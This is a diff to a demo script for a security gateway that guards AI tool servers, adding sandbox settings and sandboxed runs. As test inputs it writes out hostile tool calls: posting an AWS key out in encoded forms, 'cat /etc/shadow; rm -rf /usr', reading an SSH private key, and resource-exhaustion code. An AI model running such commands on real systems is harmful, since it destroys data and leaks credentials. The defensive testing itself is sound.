@@ -60,15 +60,27 @@ upstreams:
   echo:            # Python SDK server over stdio (speaks 2026-07-28 and 2025-11-25)
     command: $py
     args: [$peers/py_echo_server.py, --transport, stdio]
-  fs:              # the reference filesystem server over stdio, confined to one folder
+  fs:              # the reference filesystem server over stdio, run inside a native sandbox
     command: $peers/node_modules/.bin/mcp-server-filesystem
     args: [$demo/files]
+    sandbox: {profile: fs}   # it sees only the system directories, its code and files/
   ev:              # the reference "everything" server over Streamable HTTP
     transport: http
     url: http://127.0.0.1:$ev_port/mcp
   net:             # a Python SDK server with network tools (http_post, fetch, shell_exec)
     command: $py
     args: [$peers/py_net_tools.py]
+sandbox:
+  backend: native
+  run_code: {enabled: true, languages: [python, shell]}   # the built-in mcpguard.run_code tool
+  code_tools:      # the policy's sandbox action runs this tool's code here, not upstream
+    net__shell_exec: {language: shell, code: /command}
+  profiles:
+    default: {wall_time_seconds: 3, memory_mb: 128}
+    fs:
+      mounts:
+        - {source: $peers/node_modules}
+        - {source: $demo/files, writable: true}
 policy:
   policy_paths: [$root/policies/owasp_asi_2026_strict.yaml, $demo/demo-allow.yaml]
 taint:
@@ -84,6 +96,9 @@ envelopes:
   payload_key: $demo/keys/payload.key
 YAML
 target/debug/mcpguard keygen --dir "$demo/keys" --payload-key >/dev/null
+# Root inside a sandbox is an unprivileged user outside (nobody, when the gateway runs as
+# root): the folder the confined filesystem server writes to must be theirs.
+if [ "$(id -u)" = 0 ]; then chown -R 65534:65534 "$demo/files"; fi
 
 echo "==> starting: mcpguard serve --config $demo/config.yaml" >&2
 target/debug/mcpguard serve --config "$demo/config.yaml" >"$demo/stdout" 2>"$demo/gateway.log" &
@@ -117,7 +132,7 @@ echo; echo "=== Session 2: Python SDK client (protocol 2026-07-28, stateless), s
 ]' | view
 
 echo; echo "=== Session 3: the guard (policy owasp_asi_2026_strict.yaml, taint tracking), Python SDK client"
-echo "    read a file holding an AWS key, then try to send it out three ways; run a shell command"
+echo "    read a file holding an AWS key, then try to send it out three ways; run a shell command (in the sandbox)"
 b64=$(printf 'AWS key: AKIAQ3ZRT7WX2YUV4ABC' | base64)
 "$py" "$peers/py_client.py" --url "$url" --mode legacy '[
   {"op":"call_tool","name":"fs__read_text_file","arguments":{"path":"'"$demo"'/files/secrets.env"}},
@@ -125,10 +140,19 @@ b64=$(printf 'AWS key: AKIAQ3ZRT7WX2YUV4ABC' | base64)
   {"op":"call_tool","name":"net__http_post","arguments":{"url":"http://127.0.0.1:'"$rx_port"'/in","body":"lowercased akiaq3zrt7wx2yuv4abc"}},
   {"op":"call_tool","name":"net__http_post","arguments":{"url":"http://127.0.0.1:'"$rx_port"'/in","body":"'"$b64"'"}},
   {"op":"call_tool","name":"net__http_post","arguments":{"url":"http://127.0.0.1:'"$rx_port"'/in","body":"meeting moved to 3pm"}},
-  {"op":"call_tool","name":"net__shell_exec","arguments":{"command":"rm -rf /"}},
+  {"op":"call_tool","name":"net__shell_exec","arguments":{"command":"cat /etc/shadow; rm -rf /usr 2>&1 | tail -n 1; hostname"}},
   {"op":"call_tool","name":"fs__read_text_file","arguments":{"path":"/home/agent/.ssh/id_ed25519"}}
 ]' | view
 echo "  what the receiver got: $(tr '\n' '|' < "$demo/received.txt" 2>/dev/null)"
+
+echo; echo "=== Session 4: mcpguard.run_code (strict policy rule ASI05-001 sends it to the native sandbox)"
+"$py" "$peers/py_client.py" --url "$url" --mode legacy '[
+  {"op":"call_tool","name":"mcpguard.run_code","arguments":{"language":"python","code":"import platform; print(sum(range(101)), platform.node())"}},
+  {"op":"call_tool","name":"mcpguard.run_code","arguments":{"language":"python","code":"import socket; socket.create_connection((\"127.0.0.1\", '"$port"'))"}},
+  {"op":"call_tool","name":"mcpguard.run_code","arguments":{"language":"shell","code":"ls /root; cat '"$demo"'/files/secrets.env"}},
+  {"op":"call_tool","name":"mcpguard.run_code","arguments":{"language":"python","code":"x = bytearray(1 << 30)"}},
+  {"op":"call_tool","name":"mcpguard.run_code","arguments":{"language":"shell","code":"while :; do :; done"}}
+]' | view
 
 echo; echo "=== Protection at the edge (raw HTTP)"
 hdr=(-H 'content-type: application/json' -H 'accept: application/json, text/event-stream' -H 'mcp-protocol-version: 2026-07-28' -H 'mcp-method: tools/call')
@@ -147,7 +171,10 @@ grep ' decision ' "$demo/gateway.log" | grep -v 'action="allow"\|action=allow' |
 echo; echo "=== The tamper-evident audit log: every call, newest first (mcpguard audit-query)"
 kill -TERM "${pids[-1]}"; wait "${pids[-1]}" 2>/dev/null || true   # a clean stop signs the final checkpoint
 mg() { target/debug/mcpguard "$@" --db "$demo/audit.db"; }
-echo "- denied calls:"; mg audit-query --limit 12 --action deny; echo; echo "- the newest 8 events of any kind:"
+echo "- denied calls:"; mg audit-query --limit 12 --action deny
+echo; echo "- sandboxed runs (how each ended is in the event's sandbox record):"; mg audit-query --limit 6 --action sandbox
+mg audit-query --limit 6 --action sandbox --format json | "$py" "$root/scripts/demo_view.py" --sandbox-events
+echo; echo "- the newest 8 events of any kind:"
 mg audit-query --limit 8
 echo; echo "=== mcpguard audit-verify (hash chain, Merkle tree, signed checkpoints)"
 mg audit-verify --public-key "$demo/keys/signing.pub" --key-name mcpguard-demo/audit
@@ -172,5 +199,5 @@ echo "    ...after the file changes:"
 echo "quarterly numbers: 43" > "$demo/files/report.txt"
 target/debug/mcpguard --config "$demo/config.yaml" replay "$trace" || true
 echo
-echo "Not yet in this build: a sandbox backend (sandboxed calls are refused, never run unconfined),"
+echo "Not yet in this build: the wasm, docker, firecracker and microsandbox sandbox backends,"
 echo "authentication and rate limits; see README.md."
